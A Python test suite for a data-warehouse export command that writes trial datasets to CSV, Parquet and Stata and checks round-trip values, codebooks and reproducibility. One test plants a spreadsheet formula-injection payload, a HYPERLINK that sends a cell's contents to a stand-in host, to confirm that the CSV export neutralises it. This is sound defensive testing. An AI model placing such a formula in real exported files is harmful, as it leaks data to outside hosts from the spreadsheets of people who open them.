"""`outcomes export` on a real published build and a real lock: every format loads back (CSV with
the standard library, Parquet with pyarrow, Stata with ReadStat, the library R's haven uses) with
the warehouse's values and the codebook's labels; an export of a lock is the same byte for byte;
a formula never reaches a spreadsheet."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import json
from decimal import Decimal
from pathlib import Path
from typing import Any

import psycopg
import pytest
from typer.testing import CliRunner

from outcomes.analysis.export import FORMULA_START, _csv_cell, documented
from outcomes.cli import app
from outcomes.settings import Settings
from outcomes.warehouse import locks
from outcomes.warehouse.connection import Warehouse

pytestmark = pytest.mark.slow
DATASETS = {
    "adsl_participants",
    "adtte_first_employment",
    "agg_baseline_by_arm",
    "agg_employment_effects",
    "agg_time_to_employment_effects",
    "agg_prom_effects",
    "fct_prom_scores",
}


def cli(warehouse: Warehouse, *args: str) -> tuple[int, str]:
    done = CliRunner().invoke(app, list(args), env={"OUTCOMES_WAREHOUSE_URL": warehouse.admin_url})
    return done.exit_code, done.output


def rows(warehouse: Warehouse, schema: str, table: str) -> tuple[list[str], list[tuple[Any, ...]]]:
    with psycopg.connect(warehouse.url()) as conn:
        cursor = conn.execute(f"select * from {schema}.{table} order by 1, 2, 3")
        return [d.name for d in cursor.description or ()], cursor.fetchall()


def same(exported: Any, stored: Any) -> bool:
    """A value read back from an export is the stored one (numerics as doubles, true/false as 1/0
    in Stata, a date as a date or a datetime at midnight)."""
    if stored is None:
        return exported is None or exported == "" or exported != exported  # NaN
    if isinstance(stored, bool):
        return exported in (stored, int(stored), "true" if stored else "false")
    if isinstance(stored, Decimal):
        return float(exported) == float(stored)
    if isinstance(stored, dt.date):
        if isinstance(exported, str):
            return exported == stored.isoformat()
        return (exported.date() if isinstance(exported, dt.datetime) else exported) == stored
    return exported == stored or str(exported) == str(stored)


@pytest.fixture(scope="module")
def exports(published_trial: Warehouse, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    out = {}
    for fmt in ("csv", "parquet", "dta"):
        target = tmp_path_factory.mktemp("export") / fmt
        code, text = cli(published_trial, "export", "--format", fmt, "--out", str(target))
        assert code == 0, text
        out[fmt] = target
    return out


def test_every_format_holds_every_dataset_with_its_manifest(exports: dict[str, Path]) -> None:
    for fmt, target in exports.items():
        manifest = json.loads((target / "manifest.json").read_text())
        assert manifest["source"] == "the published build" and manifest["format"] == fmt
        assert {n.rsplit(".", 1)[0] for n in manifest["files"] if n != "codebook.md"} == DATASETS
        for name, entry in manifest["files"].items():
            assert hashlib.sha256((target / name).read_bytes()).hexdigest() == entry["sha256"], name


@pytest.mark.parametrize("table", ["adsl_participants", "adtte_first_employment", "agg_employment_effects"])
def test_each_format_loads_back_with_the_warehouse_values(
    published_trial: Warehouse, exports: dict[str, Path], table: str
) -> None:
    import pyarrow.parquet as pq
    import pyreadstat

    names, stored = rows(published_trial, "marts", table)
    with (exports["csv"] / f"{table}.csv").open(encoding="utf-8", newline="") as handle:
        read = list(csv.reader(handle))
    loaded = {
        "csv": (read[0], [tuple(r) for r in read[1:]]),
        "parquet": (lambda t: (t.column_names, [tuple(r.values()) for r in t.to_pylist()]))(
            pq.read_table(exports["parquet"] / f"{table}.parquet")
        ),
    }
    frame, meta = pyreadstat.read_dta(str(exports["dta"] / f"{table}.dta"))
    loaded["dta"] = (list(frame.columns), [tuple(r) for r in frame.itertuples(index=False)])
    for fmt, (columns, values) in loaded.items():
        assert columns == names, fmt
        assert len(values) == len(stored), fmt
        for got, want in zip(values, stored, strict=True):  # the same order: every column sorted
            wrong = [n for n, g, w in zip(names, got, want, strict=True) if not same(g, w)]
            assert not wrong, (fmt, wrong, got, want)
    # Stata: a label for every variable, from the codebook; true/false as labelled 1/0
    assert all(meta.column_names_to_labels[n] for n in names)
    booleans = [n for n, v in zip(names, stored[0], strict=True) if isinstance(v, bool)]
    for name in booleans:
        assert meta.value_labels[meta.variable_to_label[name]] == {0: "false", 1: "true"}


def test_the_codebook_documents_every_column_from_the_dbt_docs(
    settings: Settings, exports: dict[str, Path]
) -> None:
    book = (exports["csv"] / "codebook.md").read_text()
    datasets = {d.name: d for d in documented(settings.dbt_manifest)}
    assert set(datasets) == DATASETS
    for dataset in datasets.values():
        assert f"## {dataset.name}" in book
        for column in dataset.columns:
            assert column.description and f"| `{column.name}` | {column.label} |" in book, column.name
    reasons = next(c for c in datasets["adtte_first_employment"].columns if c.name == "censor_reason")
    assert "`END_OF_24_MONTHS`" in book and "AS_OF_DATE" in reasons.allowed
    days = next(c for c in datasets["adtte_first_employment"].columns if c.name == "analysis_days")
    assert days.unit == "days"


def test_an_export_of_a_lock_is_the_same_byte_for_byte(published_trial: Warehouse, tmp_path: Path) -> None:
    locks.create(published_trial, "export-lock", note="for the export test")
    for fmt in ("csv", "parquet", "dta"):
        made = []
        for attempt in ("first", "again"):
            target = tmp_path / f"{fmt}-{attempt}"
            code, text = cli(
                published_trial, "export", "--lock", "export-lock", "--format", fmt, "--out", str(target)
            )
            assert code == 0 and "the lock export-lock" in text, text
            made.append({p.name: p.read_bytes() for p in sorted(target.iterdir())})
        assert made[0] == made[1], fmt
        assert len(made[0]) == len(DATASETS) + 2  # and the codebook and the manifest


def test_a_formula_never_reaches_a_spreadsheet(published_trial: Warehouse, tmp_path: Path) -> None:
    """A site delivered as a formula (the enrolment's site is free text) is written to CSV behind
    an apostrophe, so Excel and LibreOffice show it as text; Parquet and Stata keep the text."""
    import pyarrow.parquet as pq

    locks.create(published_trial, "formula-lock")
    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    with psycopg.connect(published_trial.url()) as conn:  # a superuser who disables the guard
        conn.execute("alter table lock_formula_lock.adsl_participants disable trigger user")
        conn.execute(
            "update lock_formula_lock.adsl_participants set site = %s "
            "where participant_id = (select min(participant_id) from lock_formula_lock.adsl_participants)",
            (hostile,),
        )
        conn.execute("alter table lock_formula_lock.adsl_participants enable trigger user")
    for fmt in ("csv", "parquet"):
        code, text = cli(
            published_trial, "export", "--lock", "formula-lock", "--format", fmt, "--out", str(tmp_path / fmt)
        )
        assert code == 0, text
    with (tmp_path / "csv" / "adsl_participants.csv").open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert "'" + hostile in cells and hostile not in cells
    assert not [
        c for c in cells if c.startswith(FORMULA_START) and not c.lstrip("-").replace(".", "").isdigit()
    ]
    sites = pq.read_table(tmp_path / "parquet" / "adsl_participants.parquet").column("site").to_pylist()
    assert hostile in sites
    # numbers keep their sign; every formula start is guarded in text
    assert _csv_cell(Decimal("-13.6"), "numeric") == "-13.6"
    assert [_csv_cell(p + "x", "text") for p in FORMULA_START] == ["'" + p + "x" for p in FORMULA_START]


def test_what_cannot_be_exported_is_refused(published_trial: Warehouse, tmp_path: Path) -> None:
    (tmp_path / "used").mkdir()
    (tmp_path / "used" / "notes.txt").write_text("mine")
    code, text = cli(published_trial, "export", "--out", str(tmp_path / "used"))
    assert code == 1 and "not an empty directory" in text
    assert (tmp_path / "used" / "notes.txt").read_text() == "mine"
    code, text = cli(published_trial, "export", "--lock", "no-such-lock", "--out", str(tmp_path / "a"))
    assert code == 1 and "the lock no-such-lock is not in the warehouse" in text
    code, text = cli(published_trial, "export", "--format", "xlsx", "--out", str(tmp_path / "b"))
    assert code == 1 and "choose one of csv, parquet, dta" in text
    assert not (tmp_path / "a").exists() and not (tmp_path / "b").exists()
